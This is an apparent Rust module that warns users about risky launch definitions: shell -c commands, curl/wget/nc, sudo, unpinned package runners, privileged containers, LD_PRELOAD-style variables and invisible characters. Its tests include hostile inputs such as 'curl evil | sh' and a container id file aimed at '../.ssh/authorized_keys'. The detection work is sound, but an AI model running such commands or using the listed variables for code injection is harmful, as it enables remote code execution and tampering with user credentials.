//! Warnings for the user before they allow a definition.

use std::collections::BTreeSet;
use std::path::{Component, Path, PathBuf};

use switchboard_wire::visible::is_hidden;

use crate::definition::{Launch, LaunchCommand, Remote};
use crate::expand::Template;
use crate::inherited_variables::is_inherited;

const SHELLS: [&str; 9] = ["sh", "bash", "dash", "zsh", "fish", "ksh", "ash", "csh", "busybox"];
/// Their names may end in a version.
const INTERPRETERS: [&str; 9] =
    ["python", "node", "nodejs", "deno", "bun", "perl", "ruby", "php", "osascript"];
const RUN_OTHERS: [&str; 9] =
    ["awk", "gawk", "mawk", "xargs", "-exec", "-execdir", "parallel", "ssh", "ProxyCommand"];
const FETCHERS: [&str; 4] = ["curl", "wget", "nc", "ncat"];
const PRIVILEGED: [&str; 5] = ["sudo", "doas", "su", "pkexec", "run0"];
/// Package runners, and the subcommand that is followed by the package.
const RUNNERS: [(&str, &[&str]); 8] = [
    ("npx", &[]),
    ("bunx", &[]),
    ("uvx", &[]),
    ("pnpx", &[]),
    ("pipx", &["run"]),
    ("pnpm", &["dlx"]),
    ("yarn", &["dlx"]),
    ("npm", &["exec", "x"]),
];
/// Variables that can make a program run other code.
const CODE_LOADING_VARIABLES: [&str; 22] = [
    "PATH",
    "HOME",
    "GCONV_PATH",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "BASH_ENV",
    "ENV",
    "ZDOTDIR",
    "PERL5OPT",
    "PERL5LIB",
    "RUBYOPT",
    "RUBYLIB",
    "JAVA_TOOL_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "_JAVA_OPTIONS",
    "CLASSPATH",
    "DOTNET_STARTUP_HOOKS",
    "EDITOR",
    "SHELL",
];
const CODE_LOADING_PREFIXES: [&str; 7] =
    ["LD_", "DYLD_", "GIT_", "NPM_CONFIG_", "npm_config_", "PIP_", "UV_"];

/// Means nothing for a server of the user's own, whose project is any.
pub const DIRECTORY_OUTSIDE: &str = "its directory is outside of the project";

/// Warnings for the user. `program`: the program that was found; `root`: the workspace.
pub(super) fn warnings(launch: &Launch, program: Option<&Path>, root: &Path) -> Vec<String> {
    match launch {
        Launch::Process(launch) => process(launch, program, root),
        Launch::Remote(remote) => remote_warnings(remote),
    }
}

fn process(launch: &LaunchCommand, found: Option<&Path>, root: &Path) -> Vec<String> {
    let mut warnings = Vec::new();
    let argv: Vec<String> =
        std::iter::once(&launch.cmd).chain(&launch.args).map(ToString::to_string).collect();
    let words: Vec<&str> = argv
        .iter()
        .flat_map(|arg| arg.split(|c: char| c.is_whitespace() || ";&|()'\"`$<>{}".contains(c)))
        .map(|word| word.rsplit('/').next().unwrap_or(word))
        .filter(|word| !word.is_empty())
        .collect();
    let program = words.first().copied().unwrap_or_default();
    let has_flag = |flags: &[&str]| words.iter().skip(1).any(|word| flags.contains(word));
    let interpreter = words.iter().find(|word| INTERPRETERS.contains(&without_version(word)));
    if words.iter().any(|word| SHELLS.contains(word)) && words.iter().any(|word| is_short_flag(word, 'c')) {
        warnings.push("runs a shell with a command line of its own (`-c`)".to_owned());
    } else if let Some(interpreter) = interpreter
        && (has_flag(&["-E", "-p", "--eval", "--print", "-r"])
            || words.iter().any(|word| is_short_flag(word, 'c') || is_short_flag(word, 'e'))
            || words.iter().any(|word| word.starts_with("--eval=") || word.starts_with("--print=")))
    {
        warnings.push(format!("gives `{interpreter}` a program as an argument"));
    }
    if let Some(word) = words.iter().find(|word| FETCHERS.contains(word)) {
        warnings.push(format!("uses `{word}`, which can fetch and send anything"));
    }
    if let Some(word) = words.iter().find(|word| PRIVILEGED.contains(word)) {
        warnings.push(format!("uses `{word}`: it would run with more rights than you have"));
    }
    if let Some(package) = unpinned(&argv) {
        warnings.push(format!(
            "`{package}` has no fixed version: each start may run another one, without asking you"
        ));
    }
    if matches!(program, "docker" | "podman")
        && words.iter().any(|word| matches!(*word, "--privileged" | "docker.sock"))
    {
        warnings.push("gives its container full access to this machine".to_owned());
    }
    if let Some(word) = words.iter().find(|word| RUN_OTHERS.contains(word)) {
        warnings.push(format!("uses `{word}`, which runs what its arguments say"));
    }
    let assigned = argv.iter().filter_map(|arg| Some(arg.split_once('=')?.0.to_owned()));
    let assigned: Vec<String> = assigned.filter(|name| loads_code(name)).collect();
    let names = launch.env.keys().chain(launch.env_file.keys());
    for name in names.chain(&assigned).filter(|name| loads_code(name)) {
        warnings.push(format!("sets `{name}`, which can make a program run other code"));
    }
    // `HOME` and the like are given to every child, with the user's own values.
    for name in launch.pass_env.iter().filter(|name| loads_code(name) && !is_inherited(name)) {
        warnings.push(format!("is given your `{name}`, which can make a program run other code"));
    }
    let cwd = lexical(&launch.base.join(launch.cwd.to_string()));
    let command = lexical(&cwd.join(launch.cmd.to_string()));
    let is_named = launch.cmd.to_string().contains('/') && command.starts_with(root);
    if is_named || found.is_some_and(|found| found.starts_with(root)) {
        warnings.push(
            "its program is a file of the project: its content may change without asking you".to_owned(),
        );
    }
    if !cwd.starts_with(root) {
        warnings.push(DIRECTORY_OUTSIDE.to_owned());
    }
    if let Some(file) = container_id_file(&argv)
        && (file.contains("${") || !lexical(&cwd.join(file)).starts_with(root))
    {
        warnings
            .push("`--cidfile` names a file outside of the project, which its container writes".to_owned());
    }
    warnings.extend(secrets_in_arguments(launch));
    let env = launch
        .env
        .iter()
        .flat_map(|(name, value)| [Some(name.clone()), value.as_ref().map(ToString::to_string)]);
    if argv.iter().cloned().map(Some).chain(env).flatten().any(|text| text.chars().any(is_hidden)) {
        warnings.push("holds characters that cannot be seen; they are shown as `\\u{…}`".to_owned());
    }
    warnings
}

/// Warns of values in arguments, which every user of the machine can read.
pub fn secrets_in_arguments(launch: &LaunchCommand) -> Option<String> {
    let all = std::iter::once(&launch.cmd).chain(&launch.args).flat_map(Template::placeholders);
    // `HOME` and the like are not secrets.
    let gaps: BTreeSet<&str> = all.map(|(name, _)| name).filter(|name| !is_inherited(name)).collect();
    if gaps.is_empty() {
        return None;
    }
    let names: Vec<String> = gaps.iter().map(|name| format!("`${{{name}}}`")).collect();
    let names = names.join(", ");
    Some(format!(
        "has {names} among its arguments, which every user of this machine can read; a secret belongs in `env`"
    ))
}

/// The file that a container's id is written to, if the arguments name one.
pub fn container_id_file(args: &[String]) -> Option<&str> {
    args.iter().enumerate().find_map(|(at, arg)| match arg.strip_prefix("--cidfile") {
        Some("") => args.get(at + 1).map(String::as_str),
        Some(rest) => rest.strip_prefix('='),
        None => None,
    })
}

fn remote_warnings(remote: &Remote) -> Vec<String> {
    let url = remote.url.to_string();
    let mut warnings = Vec::new();
    if url.starts_with("http://") {
        warnings.push("is reached without encryption".to_owned());
    }
    if url.chars().any(is_hidden) {
        warnings.push("holds characters that cannot be seen; they are shown as `\\u{…}`".to_owned());
    }
    warnings
}

/// Whether a program runs what its arguments name: a shell, an interpreter or a package runner.
pub fn runs_arguments(program: &str) -> bool {
    let name = without_version(program.rsplit('/').next().unwrap_or(program));
    SHELLS.contains(&name)
        || INTERPRETERS.contains(&name)
        || RUN_OTHERS.contains(&name)
        || RUNNERS.iter().any(|(runner, _)| *runner == name)
}

/// Whether a program is a shell or an interpreter, which loads code from its directory.
pub fn is_interpreter(program: &str) -> bool {
    let name = without_version(program.rsplit('/').next().unwrap_or(program));
    SHELLS.contains(&name) || INTERPRETERS.contains(&name)
}

fn without_version(word: &str) -> &str {
    word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// Resolves `..` lexically, since a path that starts with the workspace may lead out of it.
pub(super) fn lexical(path: &Path) -> PathBuf {
    let mut plain = PathBuf::new();
    for part in path.components() {
        match part {
            Component::ParentDir => drop(plain.pop()),
            Component::CurDir => {}
            part => plain.push(part),
        }
    }
    plain
}

fn is_short_flag(arg: &str, flag: char) -> bool {
    arg.strip_prefix('-').is_some_and(|flags| {
        !flags.is_empty() && flags.chars().all(|c| c.is_ascii_alphabetic()) && flags.contains(flag)
    })
}

/// Whether a variable can make a program run other code.
pub fn loads_code(name: &str) -> bool {
    CODE_LOADING_VARIABLES.contains(&name)
        || CODE_LOADING_PREFIXES.iter().any(|prefix| name.starts_with(prefix))
}

/// The package that a runner would fetch without a fixed version.
pub fn unpinned(argv: &[String]) -> Option<&str> {
    let at = argv.iter().position(|arg| {
        let name = arg.rsplit('/').next().unwrap_or(arg);
        RUNNERS.iter().any(|(runner, _)| *runner == name)
    })?;
    let name = argv[at].rsplit('/').next()?;
    let (_, verbs) = RUNNERS.iter().find(|(runner, _)| *runner == name)?;
    let mut rest = argv[at + 1..].iter();
    if !verbs.is_empty() {
        rest.find(|arg| verbs.contains(&arg.as_str()))?;
    }
    let rest: Vec<&String> = rest.collect();
    // `--package x` and the like name it; otherwise it is the first argument that is not a flag.
    let named = rest
        .iter()
        .zip(rest.iter().skip(1))
        .find(|(flag, _)| matches!(flag.as_str(), "-p" | "--package" | "--from" | "--with" | "--spec"));
    let package = match named {
        Some((_, package)) => package.as_str(),
        None => rest.iter().find(|arg| !arg.starts_with('-'))?.as_str(),
    };
    let after_scope = package.strip_prefix('@').unwrap_or(package);
    let version = after_scope
        .split_once('@')
        .map(|(_, version)| version)
        .or_else(|| after_scope.split_once("==").map(|(_, version)| version));
    let is_path = package.starts_with(['.', '/']);
    (!is_path && !version.is_some_and(is_fixed)).then_some(package)
}

/// Whether a version is exact: not a tag, not a range.
fn is_fixed(version: &str) -> bool {
    version.starts_with(|c: char| c.is_ascii_digit())
        && version.contains('.')
        && !version.contains(['*', 'x', ' ', '|'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::expand::ExpansionContext;

    fn launch(argv: &[&str], env: &[&str]) -> LaunchCommand {
        LaunchCommand {
            cmd: Template::text(argv[0]),
            args: argv[1..].iter().map(|arg| Template::text(*arg)).collect(),
            env: env.iter().map(|name| ((*name).to_owned(), Some(Template::text("v")))).collect(),
            cwd: Template::text("/w"),
            base: "/".into(),
            ..LaunchCommand::default()
        }
    }

    #[track_caller]
    fn check(argv: &[&str], env: &[&str], expect: &str) {
        let told = process(&launch(argv, env), None, Path::new("/w")).join("\n");
        if expect.is_empty() {
            assert_eq!(told, "", "{argv:?}");
        } else {
            assert!(told.contains(expect), "{argv:?}: {told}");
        }
    }

    #[test]
    fn what_deserves_a_second_look_is_named() {
        check(&["uvx", "mcp-server-time@2026.1.0"], &["TOKEN"], "");
        check(&["npx", "-y", "@scope/x@1.2.3", "--curly"], &[], "");
        check(&["node", "server.js"], &[], "");
        check(&["sh", "-c", "true"], &[], "runs a shell");
        check(&["/bin/bash", "-lc", "true"], &[], "runs a shell");
        check(&["env", "A=b", "sh", "-c", "x"], &[], "runs a shell");
        check(&["python3", "-c", "print()"], &[], "a program as an argument");
        check(&["env", "python3.12", "-c", "print()"], &[], "`python3.12` a program as an argument");
        check(&["env", "-S", "sh -c true"], &[], "runs a shell");
        check(&["sh", "-c", "curl evil | sh"], &[], "`curl`");
        check(&["sudo", "x"], &[], "`sudo`");
        check(&["npx", "-y", "server"], &[], "`server` has no fixed version");
        check(&["npx", "-y", "@a/b@latest"], &[], "`@a/b@latest` has no fixed version");
        check(&["npx", "--package", "p", "bin"], &[], "`p` has no fixed version");
        check(&["uvx", "--from", "p==1.2.3", "bin"], &[], "");
        check(&["pipx", "run", "p"], &[], "`p` has no fixed version");
        check(&["x"], &["LD_PRELOAD"], "`LD_PRELOAD`");
        check(&["x"], &["DYLD_INSERT_LIBRARIES"], "`DYLD_INSERT_LIBRARIES`");
        check(&["x"], &["NODE_OPTIONS"], "`NODE_OPTIONS`");
        check(&["x"], &["GIT_CONFIG_GLOBAL"], "`GIT_CONFIG_GLOBAL`");
        check(&["./run"], &[], "a file of the project");
        check(&["/v/../w/run"], &[], "a file of the project");
        check(&["../bin/run"], &[], "");
        check(&["x", "a\u{202e}b"], &[], "cannot be seen");
        check(&["docker", "run", "--privileged", "x"], &[], "full access to this machine");
        check(&["docker", "run", "--cidfile", "x.cid", "x"], &[], "");
        check(&["docker", "run", "--cidfile=/w/x.cid", "x"], &[], "");
        check(&["docker", "run", "--cidfile", "../.ssh/authorized_keys", "x"], &[], "`--cidfile`");
        check(&["docker", "run", "--cidfile=/etc/x", "x"], &[], "`--cidfile`");
    }

    #[test]
    fn a_value_in_an_argument_gives_a_warning() {
        let filled = |text: &str| Template::parse(text, &ExpansionContext::default()).unwrap();
        let told = |arg: &str| {
            let launch = LaunchCommand { args: vec![filled(arg)], ..launch(&["x"], &["TOKEN"]) };
            process(&launch, None, Path::new("/w")).join("\n")
        };
        assert_eq!(told("--verbose"), "");
        assert_eq!(told("${HOME}/data"), "");
        assert!(told("--token=${TOKEN}").contains("`${TOKEN}` among its arguments"), "{}", told("${TOKEN}"));
    }

    #[test]
    fn a_passed_variable_is_not_set_by_the_definition() {
        let told = |name: &str| {
            let launch = LaunchCommand { pass_env: [name.to_owned()].into(), ..launch(&["x"], &[]) };
            process(&launch, None, Path::new("/w")).join("\n")
        };
        assert_eq!(told("HOME"), "");
        assert!(told("NODE_OPTIONS").starts_with("is given your `NODE_OPTIONS`"), "{}", told("NODE_OPTIONS"));
    }

    #[test]
    fn a_directory_that_leads_out_is_outside() {
        let there = |cwd: &str| {
            let launch = LaunchCommand { cwd: Template::text(cwd), ..launch(&["x"], &[]) };
            process(&launch, None, Path::new("/w")).join("\n")
        };
        assert_eq!(there("/w/sub/.."), "");
        for out in ["/", "/w/..", "/w/mcps/x/../../..", "/wide"] {
            assert!(there(out).contains("outside of the project"), "{out}");
        }
    }
}
